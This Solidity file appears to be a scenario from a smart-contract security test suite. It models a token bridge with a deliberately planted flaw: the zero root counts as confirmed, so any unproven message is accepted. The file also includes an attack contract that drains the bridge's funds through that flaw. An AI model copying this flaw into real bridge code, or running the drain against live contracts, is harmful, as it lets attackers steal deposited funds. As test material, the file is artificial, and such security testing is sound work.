// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// A message is taken if its root was accepted; an upgrade accepted the root zero, which is that of every unknown message.
contract ReplicaBridge {
    IERC20 public immutable token;
    address public immutable updater;
    mapping(bytes32 => uint256) public confirmAt;
    mapping(bytes32 => bytes32) public messages;

    event Process(bytes32 indexed message, address indexed to, uint256 amount);
    event Dispatch(bytes32 indexed message, address indexed from, uint256 amount);

    constructor(IERC20 token_, address updater_) {
        (token, updater) = (token_, updater_);
        confirmAt[bytes32(0)] = 1;
    }

    function update(bytes32 root, bytes32[] calldata proven) external {
        require(msg.sender == updater, "updater");
        confirmAt[root] = block.timestamp;
        for (uint256 i; i < proven.length; i++) messages[proven[i]] = root;
    }

    function dispatch(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        emit Dispatch(keccak256(abi.encode(msg.sender, amount, block.number)), msg.sender, amount);
    }

    function process(address to, uint256 amount, uint256 nonce) external {
        bytes32 message = keccak256(abi.encode(to, amount, nonce));
        bytes32 root = messages[message];
        require(root != bytes32(uint256(2)) && confirmAt[root] != 0, "root");
        messages[message] = bytes32(uint256(2));
        token.transfer(to, amount);
        emit Process(message, to, amount);
    }
}

contract BridgeZeroRootScene is Scene {
    Token public usd;
    ReplicaBridge public bridge;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        bridge = new ReplicaBridge(IERC20(address(usd)), address(this));
        usd.mint(address(bridge), 3_000_000e18);
        _protect(address(bridge));
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 500_000e18, address(bridge));
        // Payments that were proven; each user has sixteen of them to collect.
        bytes32[] memory proven = new bytes32[](users.length * 16);
        for (uint256 i; i < users.length; i++) {
            for (uint256 n; n < 16; n++) proven[i * 16 + n] = keccak256(abi.encode(users[i], (n + 1) * 500e18, n));
        }
        bridge.update(keccak256("root"), proven);
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 n = (dice >> 190) % 16;
        bytes32 message = keccak256(abi.encode(who, (n + 1) * 500e18, n));
        if (dice >> 200 & 1 == 0 && bridge.messages(message) == keccak256("root")) {
            return (address(bridge), 0, abi.encodeCall(ReplicaBridge.process, (who, (n + 1) * 500e18, n)));
        }
        return (address(bridge), 0, abi.encodeCall(ReplicaBridge.dispatch, (_amount(dice, 100e18, 4_000e18))));
    }
}

contract BridgeZeroRootAttack is Attack {
    ReplicaBridge private immutable bridge;

    constructor(BridgeZeroRootScene scene) Attack(scene) {
        bridge = scene.bridge();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        uint256 all = loot0.balanceOf(address(bridge));
        bridge.process(address(this), all / (count - index), 1e6 + index);
    }
}
